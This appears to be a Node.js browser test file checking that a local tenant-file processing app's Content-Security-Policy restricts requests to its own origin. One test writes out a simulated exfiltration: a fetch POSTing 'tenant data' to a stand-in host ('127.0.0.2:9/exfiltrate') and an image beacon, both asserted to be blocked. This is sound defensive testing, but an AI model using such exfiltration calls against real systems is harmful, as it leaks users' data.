// Test 5: processing a file makes no request to any origin but the page's, the page logs no
// error, and the Content-Security-Policy (the <meta> in index.html, and the header that
// scripts/serve.mjs also sends so it covers the worker) blocks any other origin.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import {
  AS_OF, FIXTURES, WWW, downloadXlsx, useBrowser, openPage, setSettings, uploadFile,
} from './helpers.mjs';

const chrome = useBrowser({ cli: false });

test('index.html carries a CSP that allows only the page\'s own origin', () => {
  const html = readFileSync(path.join(WWW, 'index.html'), 'utf8');
  const m = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
  assert.ok(m, 'CSP meta tag present');
  const csp = Object.fromEntries(m[1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(csp['default-src'], ["'self'"]);
  assert.deepEqual(csp['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(csp['worker-src'], ["'self'"]);
  assert.deepEqual(csp['connect-src'], ["'self'"]);
  assert.deepEqual(csp['object-src'], ["'none'"]);
  assert.deepEqual(csp['base-uri'], ["'none'"]);
  assert.deepEqual(csp['form-action'], ["'none'"]);
  for (const [k, v] of Object.entries(csp)) {
    for (const src of v) assert.match(src, /^('self'|'none'|'wasm-unsafe-eval'|data:|blob:)$/, `${k} allows ${src}`);
  }
  assert.doesNotMatch(html, /https?:\/\//, 'index.html references no other origin');
});

test('processing files sends nothing anywhere; no console or page errors', async () => {
  const p = await openPage(chrome.browser);
  try {
    const { page, origin } = p;
    await setSettings(page, { asOf: AS_OF });
    assert.equal(await uploadFile(page, path.join(FIXTURES, 'tenants-mixed.csv')), 'done');
    await downloadXlsx(page);
    assert.equal(await uploadFile(page, path.join(FIXTURES, 'hostile.csv')), 'done');
    assert.ok(p.requests.length > 0, 'requests were recorded');
    // The engine (wasm) was loaded by the worker from this origin, and was seen by the recorder.
    assert.ok(p.requests.some((u) => u === `${origin}/pkg/retention_worklist_bg.wasm`), p.requests.join('\n'));
    // The file itself is never sent: only GETs of the page's static files.
    for (const u of p.requests) {
      if (u.startsWith('blob:')) continue;
      assert.match(new URL(u).pathname, /^\/(|index\.html|[\w-]+\.js|css\/[\w-]+\.css|favicon\.svg|pkg\/[\w.-]+|sample\/[\w.-]+)$/, u);
    }
    p.assertClean();
  } finally {
    await p.close();
  }
});

test('the CSP blocks other origins in the page and in the worker', async () => {
  const p = await openPage(chrome.browser);
  try {
    const { page } = p;
    await setSettings(page, { asOf: AS_OF });
    assert.equal(await uploadFile(page, path.join(FIXTURES, 'tenants-mixed.csv')), 'done');
    // A loopback address on another origin: never reached, because the policy refuses it first.
    const target = 'http://127.0.0.2:9/exfiltrate';
    const pageResult = await page.evaluate(async (url) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let fetchResult;
      try {
        await fetch(url, { method: 'POST', body: 'tenant data' });
        fetchResult = 'sent';
      } catch {
        fetchResult = 'blocked';
      }
      const img = new Image();
      img.src = url + '.png';
      await new Promise((r) => { img.onerror = r; img.onload = r; setTimeout(r, 1000); });
      await new Promise((r) => setTimeout(r, 100));
      return { fetchResult, violations };
    }, target);
    assert.equal(pageResult.fetchResult, 'blocked');
    assert.ok(pageResult.violations.includes('connect-src'), JSON.stringify(pageResult));
    assert.ok(pageResult.violations.includes('img-src'), JSON.stringify(pageResult));

    const workers = page.workers();
    assert.equal(workers.length, 1, 'the engine worker is running');
    const workerResult = await workers[0].evaluate(async (url) => {
      const violations = [];
      self.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let fetchResult;
      try {
        await fetch(url, { method: 'POST', body: 'tenant data' });
        fetchResult = 'sent';
      } catch {
        fetchResult = 'blocked';
      }
      await new Promise((r) => setTimeout(r, 100));
      return { fetchResult, violations };
    }, target);
    assert.equal(workerResult.fetchResult, 'blocked');
    assert.ok(workerResult.violations.includes('connect-src'), JSON.stringify(workerResult));
    assert.deepEqual(p.pageErrors, []);
  } finally {
    await p.close();
  }
});
